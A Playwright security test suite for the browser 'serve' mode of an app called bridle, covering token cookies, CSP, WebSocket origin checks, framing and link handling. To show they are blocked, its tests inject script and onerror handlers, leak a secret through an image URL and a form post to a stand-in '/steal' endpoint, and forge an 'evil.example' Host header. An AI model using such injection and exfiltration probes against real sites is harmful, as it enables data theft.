/**
 * What `bridle serve` guarantees to a browser, tested in Chromium against the real server.
 *
 * Browser vs Electron: in the desktop app the main process vetoes every navigation and new window
 * (will-navigate, setWindowOpenHandler; see test/electron/window.test.ts) and the page has no
 * network at all. In a browser nothing outside the page can veto `location.href = …`, so serve
 * mode guarantees less, and these tests assert exactly that:
 * - the server: nothing of the app without the token (401), the bridge socket only for its own
 *   origin with the token, or with the HttpOnly cookie plus the page secret
 *   (serve-cookie-port.e2e.ts attacks that from another port);
 * - the CSP: no injected script or eval runs (the only way a page script could navigate or open a
 *   window is ours), no remote image loads (nothing leaks through image URLs), no form posts,
 *   no framing by another site;
 * - the page: a clicked link to another origin never replaces the app; http(s) opens in a new tab
 *   without an opener, any other scheme opens nothing;
 * - COOP: a window of another origin gets no handle on the app, and the app none on it.
 */
import { readdirSync } from 'node:fs'
import { createServer, request } from 'node:http'
import type { Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import type { BrowserContext, Page } from '@playwright/test'
import { expect, test } from '@playwright/test'
import WebSocket from 'ws'
import type { PageGlobals } from './page-globals'
import { startServeProcess } from './serve-process'
import type { ServeProcess } from './serve-process'

let serve: ServeProcess
let other: OtherOrigin

/** A server on another port: another origin (though the same site, so it gets our cookie). */
interface OtherOrigin {
  readonly origin: string
  /** Paths it was asked for, in order. */
  readonly requests: string[]
  close(): Promise<void>
}

async function startOtherOrigin(bridgeOrigin: string): Promise<OtherOrigin> {
  const requests: string[] = []
  const server: Server = createServer((req, res) => {
    requests.push(req.url ?? '/')
    if (req.url === '/frame') {
      res.writeHead(200, { 'Content-Type': 'text/html' })
      res.end(`<!doctype html><iframe id="app" src="${bridgeOrigin}/"></iframe>`)
      return
    }
    res.writeHead(200, { 'Content-Type': 'text/html' })
    res.end('<!doctype html><title>elsewhere</title><p>another origin</p>')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const { port } = server.address() as AddressInfo
  return {
    origin: `http://127.0.0.1:${port}`,
    requests,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  }
}

/** `name=value` of the cookie admission sets (a secret of its own, not the token). */
let admittedCookie = ''

test.beforeAll(async () => {
  serve = await startServeProcess()
  other = await startOtherOrigin(serve.origin)
  admittedCookie =
    (await get(`/?token=${serve.token}`)).headers['set-cookie']?.[0]?.split(';')[0] ?? ''
})

test.afterAll(async () => {
  await other.close()
  await serve.stop()
})

const port = () => new URL(serve.origin).port
const cookie = () => admittedCookie

/** A plain HTTP GET from Node, with full control of the headers (fetch forbids Host). */
function get(
  path: string,
  headers: Record<string, string> = {},
): Promise<{
  status: number
  headers: Record<string, string | string[] | undefined>
  body: string
}> {
  return new Promise((resolve, reject) => {
    const req = request(`${serve.origin}${path}`, { headers }, (res) => {
      let body = ''
      res.setEncoding('utf8')
      res.on('data', (chunk: string) => (body += chunk))
      res.on('end', () => resolve({ status: res.statusCode ?? 0, headers: res.headers, body }))
    })
    req.on('error', reject)
    req.end()
  })
}

/** Opens the bridge socket from Node; resolves 'open' or the refusal's HTTP status. */
function openSocket(path: string, headers: Record<string, string>): Promise<'open' | number> {
  return new Promise((resolve, reject) => {
    const ws = new WebSocket(`${serve.origin.replace('http', 'ws')}${path}`, { headers })
    ws.once('open', () => {
      ws.close()
      resolve('open')
    })
    ws.once('unexpected-response', (_req, res) => resolve(res.statusCode ?? 0))
    ws.once('error', reject)
  })
}

/** Records the page's CSP violations (the browser reports them as events, not console errors). */
async function recordViolations(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const w = globalThis as unknown as PageGlobals
    const seen: string[] = []
    w.__violations = seen
    w.document.addEventListener('securitypolicyviolation', (event) =>
      seen.push(event.effectiveDirective),
    )
  })
  return () =>
    page.evaluate(() => (globalThis as unknown as PageGlobals).__violations ?? ['(not recorded)'])
}

/** A page showing the app, admitted with the token (the context now holds the cookie). */
async function openApp(context: BrowserContext): Promise<Page> {
  const page = await context.newPage()
  await page.goto(serve.url)
  await expect(page.getByRole('main', { name: 'Chat' })).toBeVisible()
  return page
}

test.describe('HTTP', () => {
  test('without the token or cookie, the page and every asset get 401 and nothing of the app', async () => {
    const asset = readdirSync(join(import.meta.dirname, '../../out/renderer/assets'))[0]
    expect(asset).toBeDefined()
    for (const path of ['/', '/index.html', `/assets/${asset ?? ''}`, '/favicon.svg', '/nope']) {
      const response = await get(path)
      expect(response.status, path).toBe(401)
      expect(response.body, path).not.toContain('<script')
      expect(response.headers['content-type'], path).toBe('text/plain; charset=utf-8')
    }
    expect((await get('/?token=wrong')).status).toBe(401)
    expect((await get('/', { Cookie: `bridle_token_${port()}=wrong` })).status).toBe(401)
    // Another port's cookie does not open this server.
    const value = cookie().split('=')[1] ?? ''
    expect((await get('/', { Cookie: `bridle_token_1=${value}` })).status).toBe(401)
    // The token is no cookie value either.
    expect((await get('/', { Cookie: `bridle_token_${port()}=${serve.token}` })).status).toBe(401)
  })

  test('a request for another host name is refused (DNS rebinding)', async () => {
    const response = await get(`/?token=${serve.token}`, { Host: `evil.example:${port()}` })
    expect(response.status).toBe(403)
    expect(response.headers['set-cookie']).toBeUndefined()
  })

  test('the token is traded for an HttpOnly, SameSite=Strict cookie and a clean address', async () => {
    const admitted = await get(`/?token=${serve.token}`)
    expect(admitted.status).toBe(303)
    // The address keeps only the page secret, in the fragment (the page removes it).
    expect(admitted.headers.location).toMatch(/^\/#bridle-page=[\w-]{43}$/)
    const setCookie = admitted.headers['set-cookie']?.[0] ?? ''
    expect(setCookie).toMatch(new RegExp(`^bridle_token_${port()}=[\\w-]{32};`))
    expect(setCookie).not.toContain(serve.token)
    expect(setCookie).toContain('HttpOnly')
    expect(setCookie).toContain('SameSite=Strict')
    expect(setCookie).toContain('Path=/')
    // A crafted path cannot turn the redirect into one to another host.
    const crafted = await get(`/\\evil.example/?token=${serve.token}`)
    expect(crafted.headers.location).toMatch(/^\/(?![/\\])/)
  })

  test('with the cookie the app is served under a strict CSP', async () => {
    const page = await get('/', { Cookie: cookie() })
    expect(page.status).toBe(200)
    expect(page.body).toContain('<div id="root">')
    const csp = String(page.headers['content-security-policy'])
    const directives = new Map(
      csp.split(';').map((part) => {
        const [name = '', ...sources] = part.trim().split(/\s+/)
        return [name, sources] as const
      }),
    )
    expect(directives.get('default-src')).toEqual(["'none'"])
    expect(directives.get('script-src')).toEqual(["'self'"])
    expect(directives.get('style-src')).toEqual(["'self'"])
    expect(directives.get('img-src')).toEqual(["'self'", 'data:'])
    expect(directives.get('connect-src')).toEqual(["'self'", `ws://127.0.0.1:${port()}`])
    expect(directives.get('frame-ancestors')).toEqual(["'none'"])
    expect(directives.get('form-action')).toEqual(["'none'"])
    expect(directives.get('base-uri')).toEqual(["'none'"])
    expect(csp).not.toMatch(/unsafe-eval|unsafe-inline|\*/)
    expect(page.headers['cross-origin-opener-policy']).toBe('same-origin')
    expect(page.headers['x-frame-options']).toBe('DENY')
  })
})

test.describe('the bridge socket', () => {
  test('from Node: refused without the token, with a wrong one, or from another origin', async () => {
    const ownOrigin = { Origin: serve.origin }
    expect(await openSocket('/bridge', ownOrigin)).toBe(401)
    expect(await openSocket('/bridge?token=wrong', ownOrigin)).toBe(401)
    expect(await openSocket('/bridge', { ...ownOrigin, Cookie: `bridle_token_${port()}=x` })).toBe(
      401,
    )
    expect(await openSocket('/bridge', { Origin: other.origin, Cookie: cookie() })).toBe(403)
    // The cookie alone never opens it (see serve-cookie-port.e2e.ts for the page secret).
    expect(await openSocket('/bridge', { ...ownOrigin, Cookie: cookie() })).toBe(401)
    expect(await openSocket(`/bridge?token=${serve.token}`, {})).toBe('open')
  })

  test('from a page without the token: refused by the server, not just by the CSP', async ({
    browser,
  }) => {
    // bypassCSP: the 401 page's CSP would block the socket first; here only the server decides.
    const context = await browser.newContext({ bypassCSP: true })
    const page = await context.newPage()
    expect((await page.goto(`${serve.origin}/`))?.status()).toBe(401)
    expect(await page.evaluate(tryBridge, `${serve.origin.replace('http', 'ws')}/bridge`)).toBe(
      'refused',
    )
    await context.close()
  })

  test('from a page of another origin, even one the browser sends the cookie to: refused', async ({
    browser,
  }) => {
    const context = await browser.newContext()
    await openApp(context)
    const page = await context.newPage()
    await page.goto(`${other.origin}/`)
    expect(await page.evaluate(tryBridge, `${serve.origin.replace('http', 'ws')}/bridge`)).toBe(
      'refused',
    )
    await context.close()
  })
})

/** Runs in the page (serialised by Playwright): opens the bridge and says whether it opened. */
function tryBridge(url: string): Promise<'open' | 'refused'> {
  return new Promise((resolve) => {
    // The browser's WebSocket, not the `ws` package this file imports for Node.
    const ws = new globalThis.WebSocket(url)
    ws.onopen = () => {
      ws.close()
      resolve('open')
    }
    ws.onerror = () => resolve('refused')
  })
}

test.describe('the page', () => {
  test('a page of another origin cannot frame the app', async ({ browser }) => {
    const context = await browser.newContext()
    await openApp(context)
    const page = await context.newPage()
    await page.goto(`${other.origin}/frame`)
    const frame = page.frameLocator('#app')
    await page.waitForTimeout(500)
    await expect(frame.getByRole('main', { name: 'Chat' })).toHaveCount(0)
    // Chromium replaces a refused frame with its error page.
    expect(page.frames().map((f) => f.url())).not.toContain(`${serve.origin}/`)
    await context.close()
  })

  test('no injected script, inline handler or eval runs, no remote image loads, no form posts', async ({
    browser,
  }) => {
    const context = await browser.newContext()
    const page = await context.newPage()
    const violations = await recordViolations(page)
    await page.goto(serve.url)
    await expect(page.getByRole('main', { name: 'Chat' })).toBeVisible()
    const before = other.requests.length

    // What a markdown injection would try: inline script, an inline handler, a remote image.
    await page.evaluate((elsewhere) => {
      const { document } = globalThis as unknown as PageGlobals
      const host = document.createElement('div')
      host.innerHTML =
        `<img src="x" onerror="window.__ran = 'onerror'">` +
        `<img src="${elsewhere}/pixel.png?leak=secret">`
      document.body.append(host)
      const script = document.createElement('script')
      script.textContent = "window.__ran = 'inline'"
      document.body.append(script)
    }, other.origin)
    // A string timer compiles its code as page script later: the CSP's eval rule applies to it
    // (code evaluated by the test harness itself is exempt, so `eval` cannot be probed directly).
    await page.evaluate(() => {
      const w = globalThis as unknown as PageGlobals
      w.setTimeout("window.__ran = 'eval'", 0)
    })

    const form = `${other.origin}/steal`
    await page.evaluate((action) => {
      const { document } = globalThis as unknown as PageGlobals
      const element = document.createElement('form')
      element.method = 'post'
      element.action = action
      document.body.append(element)
      element.submit()
    }, form)
    await page.waitForTimeout(500)

    expect(await page.evaluate(() => (globalThis as unknown as PageGlobals).__ran)).toBeUndefined()
    expect(page.url()).toBe(`${serve.origin}/`)
    expect(other.requests.slice(before)).toEqual([])
    expect(await violations()).toEqual(
      expect.arrayContaining([
        'script-src-attr',
        'script-src-elem',
        'script-src',
        'img-src',
        'form-action',
      ]),
    )
    await context.close()
  })

  test('a clicked link to another origin never replaces the app', async ({ browser }) => {
    const context = await browser.newContext()
    const page = await openApp(context)
    const appUrl = page.url()
    const addLink = (href: string) =>
      page.evaluate((target) => {
        const { document } = globalThis as unknown as PageGlobals
        const link = document.createElement('a')
        link.href = target
        link.textContent = target
        link.id = 'probe'
        document.getElementById('probe')?.remove()
        document.body.append(link)
      }, href)

    // http(s): a new tab without an opener; the app stays.
    await addLink(`${other.origin}/landing`)
    const [popup] = await Promise.all([context.waitForEvent('page'), page.click('#probe')])
    await popup.waitForLoadState()
    expect(popup.url()).toBe(`${other.origin}/landing`)
    expect(await popup.evaluate(() => (globalThis as unknown as PageGlobals).opener)).toBeNull()
    expect(page.url()).toBe(appUrl)
    await popup.close()

    // Other schemes: nothing at all opens and the app stays.
    for (const href of ['file:///etc/hostname', 'bridle-test://launch?x=1', 'data:text/html,hi']) {
      await addLink(href)
      await page.click('#probe')
      await page.click('#probe', { button: 'middle' })
      await page.waitForTimeout(300)
      expect(context.pages(), href).toHaveLength(1)
      expect(page.url(), href).toBe(appUrl)
    }
    await context.close()
  })

  test('a window the app opens to another origin gets no handle on it (COOP)', async ({
    browser,
  }) => {
    const context = await browser.newContext()
    const page = await openApp(context)
    const [popup] = await Promise.all([
      context.waitForEvent('page'),
      page.evaluate(
        (url) => void (globalThis as unknown as PageGlobals).open(url),
        `${other.origin}/opened`,
      ),
    ])
    await popup.waitForLoadState()
    expect(await popup.evaluate(() => (globalThis as unknown as PageGlobals).opener)).toBeNull()
    expect(page.url()).toBe(`${serve.origin}/`)
    await context.close()
  })
})
